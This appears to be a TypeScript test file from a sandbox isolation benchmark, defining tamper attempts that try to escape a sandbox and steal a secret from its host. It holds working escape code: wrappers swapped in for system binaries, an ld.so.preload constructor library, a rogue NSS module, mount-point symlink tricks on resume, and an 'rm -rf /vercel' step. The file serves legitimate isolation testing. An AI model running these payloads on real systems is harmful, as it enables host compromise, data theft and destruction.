import { Readable } from "node:stream";
import { text } from "node:stream/consumers";
import { fileEntry } from "../isolation-bench.ts";
import type { Attempt, Attempts, Stage } from "./attempt.ts";
import { LOOT, perl } from "./shell-text.ts";

/** A text with what it is about filled in: whoever runs it knows no variables of the attempt's. */
const FILL = `sed -e "s#@SECRET@#$SECRET_FILE#g" -e "s#@OPEN@#$OPEN_DIRECTORY#g" -e "s#@VICTIM@#$VICTIM#g"`;
const PLUNDER = `${FILL} >/loot <<'LOOT'\n${LOOT}\nLOOT\nchmod 755 /loot\n`;

/** All that the engine does with a sandbox, and again after it was stopped and resumed. */
async function useAll(stage: Stage): Promise<string> {
  const output: string[] = [];
  const use = async () => {
    output.push(await stage.sh("cat plundered /tmp/plundered 2>/dev/null; true").catch(String));
    output.push(await stage.sh("true", { as: "root" }).catch(String));
    const files = [fileEntry("/vercel/sandbox/written", "x")];
    output.push(await stage.files.write(Readable.from(files)).then(() => "", String));
    output.push(
      await stage.files.read("/tmp/plundered").then(({ content }) => text(content), String),
    );
    output.push(await useTerminal(stage).catch(String));
  };
  await use();
  output.push(await stage.resume());
  await use();
  return output.join("\n");
}

async function useTerminal({ sandbox }: Stage): Promise<string> {
  const spec = { cmd: "true", args: [], env: {}, sudo: false, columns: 80, rows: 24 };
  const terminal = await sandbox!.root.openTerminal(spec);
  const said = text(terminal.output);
  await terminal.exited;
  await terminal[Symbol.asyncDispose]();
  return said;
}

// A program of the same name does what the old one did, as well as it can, after it has looked around.
const REPLACE = `path=$(command -v "$1"); real=$(readlink -f "$path"); mkdir -p /old; cp "$real" "/old/$1"; chmod 755 "/old/$1"
rm -f "$path"; printf '#!/old/sh\\n/old/sh /loot >>/tmp/plundered 2>&1\\nexec /old/%s "$@"\\n' "$1" >"$path"; chmod 755 "$path"`;

/** Puts something in a program's place that the engine might run with rights of its own. */
const replaced = ([name, more]: readonly [name: string, more?: string]): Attempt => ({
  title: `puts its own program in the place of ${name}, and has the engine use the sandbox`,
  as: "root",
  program: `${PLUNDER} : >/tmp/plundered; chmod 666 /tmp/plundered; mkdir -p /old; cp "$(readlink -f /bin/sh)" /old/sh
    set -- ${name}; ${REPLACE}; ${more ?? ""}`,
  proof: { found: isPlundered },
  weakened: "hosts-root",
  afterwards: useAll,
});

function isPlundered({ outside }: Stage, output: string): boolean {
  return output.includes(outside.secret) || outside.hasMark() || outside.isVictimHurt();
}

/** What of the sandbox's own the engine does run, and what else makes it do so. */
const REPLACED = [
  ["sh"],
  ["env"],
  ["setpriv"],
  ["setsid"],
  ["script"],
  ["hostname"],
  ["mkdir", "cd /; rm -rf /vercel"],
  ["sleep"],
] as const;

/** A snapshot whose mount points lead elsewhere, and what then comes back. */
const resumed = (title: string, program: string): Attempt => ({
  title,
  as: "root",
  program: `${PLUNDER}${program}`,
  proof: { found: isPlundered },
  weakened: "trusted-mount-points",
  async afterwards(stage) {
    const said = await stage.resume();
    if (said !== "") return said;
    const found = await stage.sh(
      '/bin/sh /loot; for each in /*; do cat "$each$SECRET_FILE"; done 2>/dev/null',
      { as: "root" },
    );
    return found;
  },
});
/** Takes what is mounted at a place away and puts a link there. */
const replaceByLink = (place: string, target: string) =>
  perl(`
    my $place = "${place}"; my $target = "${target}"; syscall($ENV{NR_umount2}, $place, 2) for 1 .. 40;
    -l $place or -f $place ? unlink $place : rmdir $place; print "$place: $!\\n" if -e $place; symlink($target, $place) or print "link: $!\\n";`);

/** Ways through what the engine runs, reads or mounts of the sandbox's own. */
export const tamperAttempts: Attempts = {
  ...Object.fromEntries(REPLACED.map((each) => [`programs: ${each[0]}`, replaced(each)])),
  "programs: a library for all": {
    title: "has a library of its own loaded into every program",
    as: "root",
    program: `${PLUNDER} : >/tmp/plundered; chmod 666 /tmp/plundered
      printf '#include <stdlib.h>\\n__attribute__((constructor)) void go(void) { if (!getenv("LOOTING")) { setenv("LOOTING", "1", 1); system("/bin/sh /loot >>/tmp/plundered 2>&1"); unsetenv("LOOTING"); } }\\n' >/loot.c
      gcc -shared -fPIC -o /loot.so /loot.c && echo /loot.so >/etc/ld.so.preload`,
    proof: { found: isPlundered },
    weakened: "hosts-root",
    afterwards: useAll,
  },
  "programs: a library of names": {
    title: "has a library of its own loaded by whoever looks up users",
    as: "root",
    program: `${PLUNDER} : >/tmp/plundered; chmod 666 /tmp/plundered
      printf '#include <stdlib.h>\\n__attribute__((constructor)) void go(void) { system("/bin/sh /loot >>/tmp/plundered 2>&1"); }\\n' >/loot.c
      gcc -shared -fPIC -o "/usr/lib/$(uname -m)-linux-gnu/libnss_loot.so.2" /loot.c
      sed -i 's/^\\(passwd\\|group\\|initgroups\\):.*/\\1: files loot/' /etc/nsswitch.conf; echo "initgroups: loot files" >>/etc/nsswitch.conf`,
    proof: { found: isPlundered },
    weakened: "hosts-root",
    afterwards: useAll,
  },
  "resume: the place of the host's root": resumed(
    "leads the place where the host's root waits elsewhere",
    "mkdir -p /oldroot /sys; ln -s ../run /sys/oldroot; rmdir /mnt; ln -s proc/1/root/sys/oldroot /mnt",
  ),
  "resume: the place of the host's root, to a drive's": resumed(
    "leads the place where the host's root waits to another mount",
    "rmdir /mnt; mkdir -p /oldroot /sys; ln -s ../dev/shm /sys/oldroot; ln -s proc/1/root/sys/oldroot /mnt",
  ),
  "resume: programs": resumed(
    "has its programs laid over the host's",
    `rm -f /usr/sbin/pivot_root; cp /loot /usr/sbin/pivot_root; sed -i '1i #!/bin/sh' /usr/sbin/pivot_root; ${replaceByLink("/usr", "/usr")}`,
  ),
  ...Object.fromEntries(
    ["/proc", "/run", "/dev", "/dev/shm", "/dev/pts", "/sys", "/dev/null"].map((place) => [
      `resume: ${place}`,
      {
        ...resumed(
          `leads ${place} to where the host has it`,
          replaceByLink(place, place === "/dev/null" ? "/etc/hostname" : "/usr"),
        ),
        weakened: "hosts-root",
      } satisfies Attempt,
    ]),
  ),
};
